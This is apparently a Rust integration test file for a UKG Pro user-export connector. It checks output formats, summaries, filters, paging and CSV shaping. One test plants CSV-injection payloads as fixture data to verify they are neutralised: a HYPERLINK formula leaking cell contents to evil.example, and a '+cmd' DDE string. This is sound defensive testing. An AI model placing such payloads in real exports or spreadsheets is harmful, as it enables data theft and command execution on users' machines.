//! What an export holds: formats, summaries, filters, paging, CSV safety and shape.

use crate::harness::*;

#[tokio::test]
async fn users_in_all_three_formats_hold_the_same_users() {
    let server = fixture_server().await;
    let dir = temp_dir("formats");
    let config = write_config(&dir, &support::settings(&server.uri()));

    let o = connector(&["ukgpro", "users", "--config", &config], &[]).await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let jsonl: Vec<Value> = stdout(&o)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();

    let o = connector(
        &["ukgpro", "users", "--config", &config, "--format", "json"],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let json: Vec<Value> = serde_json::from_slice(&o.stdout).unwrap();

    let o = connector(
        &["ukgpro", "users", "--config", &config, "--format", "csv"],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let mut reader = csv::Reader::from_reader(o.stdout.as_slice());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let csv_users: Vec<Value> = reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            let map: serde_json::Map<String, Value> = headers
                .iter()
                .zip(r.iter())
                .map(|(h, v)| {
                    (
                        h.clone(),
                        if v.is_empty() {
                            Value::Null
                        } else {
                            Value::String(v.to_owned())
                        },
                    )
                })
                .collect();
            Value::Object(map)
        })
        .collect();

    let expected = [
        "C1/E100", "C1/E101", "C1/E102", "C1/E300", "C2/E200", "C2/E201",
    ];
    assert_eq!(ids_of(&jsonl), expected);
    assert_eq!(ids_of(&json), expected);
    assert_eq!(ids_of(&csv_users), expected);
    // Same content in every format (CSV carries everything as text).
    let by_id = |users: &[Value], id: &str| users.iter().find(|u| u["id"] == id).cloned().unwrap();
    assert_eq!(by_id(&jsonl, "E100"), by_id(&json, "E100"));
    let ana = by_id(&csv_users, "E100");
    assert_eq!(ana["display_name"], "Ana Diaz");
    assert_eq!(ana["hire_date"], "2015-06-01");
    assert_eq!(ana["status"], "active");
    assert_eq!(by_id(&csv_users, "E201")["last_name"], "García");
    for field in [
        "email",
        "job_title",
        "manager_id",
        "termination_date",
        "updated_at",
    ] {
        for id in ["E100", "E101", "E200"] {
            let a = &by_id(&jsonl, id)[field];
            let b = &by_id(&csv_users, id)[field];
            assert_eq!(a, b, "{id}.{field}");
        }
    }
}

#[tokio::test]
async fn users_summary_reports_statuses_partners_malformed_and_fill_rates() {
    let server = fixture_server().await;
    let dir = temp_dir("summary");
    let config = write_config(&dir, &support::settings(&server.uri()));
    let o = connector(&["ukgpro", "users", "--config", &config], &[]).await;
    assert_eq!(code(&o), 0);
    let err = stderr(&o);
    assert!(
        err.contains("Exported 6 users to stdout (active 1, leave 1, suspended 1, terminated 1, inactive 1, unknown 1)"),
        "{err}"
    );
    assert!(
        err.contains("Records without a partner: 1 person-details without employment-details"),
        "{err}"
    );
    assert!(
        err.contains("Records without a partner: 1 employment-details without person-details"),
        "{err}"
    );
    assert!(err.contains("Malformed records skipped: 1"), "{err}");
    assert!(
        err.contains("person-details page 1, record 5: no employee id (company C1)"),
        "{err}"
    );
    assert!(err.contains("email             4 of 6   66%"), "{err}");
    assert!(!err.contains("WARNING"), "{err}");
    // No personal data beyond the export's own fields, anywhere.
    let all = format!("{}{err}", stdout(&o));
    for personal in [
        "111-22-3333",
        "999-88-7777",
        "1985-04-12",
        "Secret Lane",
        "555-0100",
        "Ghost",
    ] {
        assert!(!all.contains(personal), "{personal} leaked");
    }
}

#[tokio::test]
async fn a_missing_field_across_the_tenant_is_a_loud_warning() {
    let (mut persons, employments) = generated(50);
    for p in &mut persons {
        p.as_object_mut().unwrap().remove("emailAddress");
    }
    let server = support::ukg(Paged::new(persons), Paged::new(employments)).await;
    let dir = temp_dir("warning");
    let config = write_config(&dir, &support::settings(&server.uri()));
    let o = connector(
        &["ukgpro", "users", "--config", &config, "--format", "csv"],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0);
    assert!(
        stderr(&o).contains("WARNING: email: 0 of 50 users have it"),
        "{}",
        stderr(&o)
    );
}

#[tokio::test]
async fn status_and_company_filters() {
    let server = fixture_server().await;
    let dir = temp_dir("filters");
    let config = write_config(&dir, &support::settings(&server.uri()));
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--config",
            &config,
            "--status",
            "active,leave",
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let users: Vec<Value> = stdout(&o)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(ids_of(&users), ["C1/E100", "C1/E101"]);
    assert!(
        stderr(&o).contains("Left out by the filters: 4"),
        "{}",
        stderr(&o)
    );

    let o = connector(
        &[
            "ukgpro",
            "users",
            "--config",
            &config,
            "--company",
            "C2",
            "--format",
            "json",
        ],
        &[],
    )
    .await;
    let users: Vec<Value> = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(ids_of(&users), ["C2/E200", "C2/E201"]);

    let o = connector(
        &[
            "ukgpro", "users", "--config", &config, "--status", "retired",
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 2);
    assert!(stderr(&o).contains("active"), "{}", stderr(&o));

    let o = connector(
        &[
            "ukgpro",
            "users",
            "--config",
            &config,
            "--page-size",
            "20000",
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 2);
    assert!(
        stderr(&o).contains("20000 is more than the 10000 records per page UKG Pro allows"),
        "{}",
        stderr(&o)
    );
    assert!(stderr(&o).contains("--page-size"), "{}", stderr(&o));

    // Refused before anything starts: no sandbox is announced.
    let o = connector(
        &["ukgpro", "users", "--sandbox", "--page-size", "20000"],
        &[],
    )
    .await;
    assert_eq!(code(&o), 2);
    assert!(
        !stderr(&o).contains("sandbox with a generated workforce"),
        "{}",
        stderr(&o)
    );
    assert!(
        stderr(&o).contains("10000 records per page"),
        "{}",
        stderr(&o)
    );
}

#[tokio::test]
async fn page_size_flag_controls_paging() {
    let (persons, employments) = generated(250);
    let server = support::ukg(Paged::new(persons), Paged::new(employments)).await;
    let dir = temp_dir("paging");
    let config = write_config(&dir, &support::settings(&server.uri()));
    let o = connector(
        &["ukgpro", "users", "--config", &config, "--page-size", "100"],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert_eq!(stdout(&o).lines().count(), 250);
    let mut pages = pages_requested(&server, support::PERSON).await;
    pages.sort_unstable();
    pages.dedup();
    assert_eq!(&pages[..3], [1, 2, 3]);
}

#[tokio::test]
async fn csv_output_neutralises_spreadsheet_formulas_and_control_characters() {
    let (mut persons, employments) = generated(3);
    persons[0]["firstName"] = json!("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")");
    persons[1]["emailAddress"] = json!("+cmd|' /C calc'!A0");
    persons[2]["lastName"] = json!("-2+3\u{0}\u{202e}+cmd");
    let server = support::ukg(Paged::new(persons), Paged::new(employments)).await;
    let dir = temp_dir("csv-formulas");
    let file = write_config(&dir, &settings(&server.uri()));
    let rows = |raw: bool| {
        let file = file.clone();
        async move {
            let mut args = vec!["ukgpro", "users", "--config", &file, "--format", "csv"];
            if raw {
                args.push("--csv-raw");
            }
            let o = connector(&args, &[]).await;
            assert_eq!(code(&o), 0, "{}", stderr(&o));
            let mut reader = csv::Reader::from_reader(o.stdout.as_slice());
            let header = reader.headers().unwrap().clone();
            let col = |name: &str| header.iter().position(|h| h == name).unwrap();
            let (first, display, email, last) = (
                col("first_name"),
                col("display_name"),
                col("email"),
                col("last_name"),
            );
            reader
                .records()
                .map(|r| {
                    let r = r.unwrap();
                    [&r[first], &r[display], &r[email], &r[last]].map(str::to_owned)
                })
                .collect::<Vec<_>>()
        }
    };
    let safe = rows(false).await;
    assert!(safe[0][0].starts_with("'=HYPERLINK"), "{:?}", safe[0]);
    assert!(
        safe[0][1].starts_with("'=HYPERLINK"),
        "derived display_name: {:?}",
        safe[0]
    );
    assert!(safe[1][2].starts_with("'+cmd"), "{:?}", safe[1]);
    assert_eq!(
        safe[2][3], "'-2+3+cmd",
        "control and bidi characters removed"
    );
    let raw = rows(true).await;
    assert!(raw[0][0].starts_with("=HYPERLINK"), "{:?}", raw[0]);
    assert_eq!(
        raw[2][3], "-2+3+cmd",
        "control characters are removed even raw"
    );
}

#[tokio::test]
async fn the_format_follows_the_output_file_and_values_are_tolerant() {
    let server = fixture_server().await;
    let dir = temp_dir("format-inference");
    let file = write_config(&dir, &settings(&server.uri()));
    let csv = dir.join("users.csv");
    let csv_path = csv.to_string_lossy().into_owned();
    let o = connector(
        &["ukgpro", "users", "--config", &file, "--output", &csv_path],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let written = std::fs::read_to_string(&csv).unwrap();
    assert!(
        written.starts_with("id,company_id,"),
        "CSV inferred from .csv: {written}"
    );
    let o = connector(
        &[
            "ukgpro", "users", "--config", &file, "--output", &csv_path, "--format", "jsonl",
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 2, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("does not match the output file's extension"),
        "{}",
        stderr(&o)
    );
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--config",
            &file,
            "--output",
            "-",
            "--format",
            "CSV",
            "--status",
            "Active, leave",
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert!(
        stdout(&o).starts_with("id,company_id,"),
        "`-` is stdout: {}",
        stdout(&o)
    );
    assert!(!dir.join("-").exists(), "no file named -");
}

#[tokio::test]
async fn limit_peeks_at_the_first_users_without_fetching_the_rest() {
    let dir = temp_dir("limit");
    let file = dir.join("peek.csv");
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--sandbox",
            "--limit",
            "7",
            "--output",
            file.to_str().unwrap(),
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let csv = std::fs::read_to_string(&file).unwrap();
    assert_eq!(csv.lines().count(), 8, "a header and 7 users:\n{csv}");
    let err = stderr(&o);
    assert!(err.contains("Exported 7 users"), "{err}");
    assert!(err.contains("stopped at --limit 7"), "{err}");
    // The sandbox's 300 employees are 600 records; a peek reads a small page of each.
    let read: u64 = err
        .split(" records read")
        .next()
        .and_then(|head| head.rsplit(' ').next())
        .and_then(|n| n.replace(',', "").parse().ok())
        .expect("the summary counts records");
    assert!(read < 100, "{read} records read for 7 users:\n{err}");

    // Without --limit the whole workforce is exported, and no limit is mentioned.
    let o = connector(&["ukgpro", "users", "--sandbox"], &[]).await;
    assert_eq!(stdout(&o).lines().count(), 300);
    assert!(!stderr(&o).contains("--limit"), "{}", stderr(&o));

    let o = connector(&["ukgpro", "users", "--sandbox", "--limit", "0"], &[]).await;
    assert_eq!(code(&o), 2, "{}", stderr(&o));
    assert!(
        stderr(&o).contains("for '--limit <N>': must be at least 1"),
        "in words, not the type's range: {}",
        stderr(&o)
    );
}

#[tokio::test]
async fn fields_and_bom_shape_the_csv_for_spreadsheets() {
    let dir = temp_dir("fields-bom");
    let out = dir.join("people.csv");
    let o = connector(
        &[
            "ukgpro",
            "users",
            "--sandbox",
            "--fields",
            "id,EMAIL",
            "--fields",
            "last_name",
            "--bom",
            "--output",
            out.to_str().unwrap(),
        ],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let text = std::fs::read_to_string(&out).unwrap();
    let body = text.strip_prefix('\u{feff}').expect("a BOM first");
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        ["id", "email", "last_name"]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 300);
    assert!(rows.iter().all(|r| r.len() == 3 && r[0].starts_with('E')));

    let o = connector(&["ukgpro", "users", "--sandbox", "--bom"], &[]).await;
    assert_eq!(code(&o), 2, "a BOM in JSON Lines is refused");
    assert!(stderr(&o).contains("--bom is for CSV"), "{}", stderr(&o));
    assert!(o.stdout.is_empty());

    let o = connector(
        &["ukgpro", "users", "--sandbox", "--fields", "id,mail"],
        &[],
    )
    .await;
    assert_eq!(code(&o), 2);
    assert!(
        stderr(&o).contains("--fields: `mail` is not a user field"),
        "{}",
        stderr(&o)
    );
}

/// `--limit 5` is a peek: only the pages five users need are requested (one per endpoint),
/// not the speculative look-ahead of a full export.
#[tokio::test]
async fn a_limited_export_requests_only_the_pages_it_needs() {
    let mut options = connector_core::sandbox::SandboxOptions::with_employees(300);
    options.seed = 7;
    let sandbox = connector_ukgpro::sandbox::start(options).await.unwrap();
    let dir = temp_dir("limit-requests");
    let config = write_config(&dir, &sandbox.settings);
    let o = connector(
        &["ukgpro", "users", "--config", &config, "--limit", "5"],
        &[],
    )
    .await;
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert_eq!(stdout(&o).lines().count(), 5);
    let requests = sandbox.counters.requests();
    assert!(requests <= 4, "{requests} requests for 5 users");
}
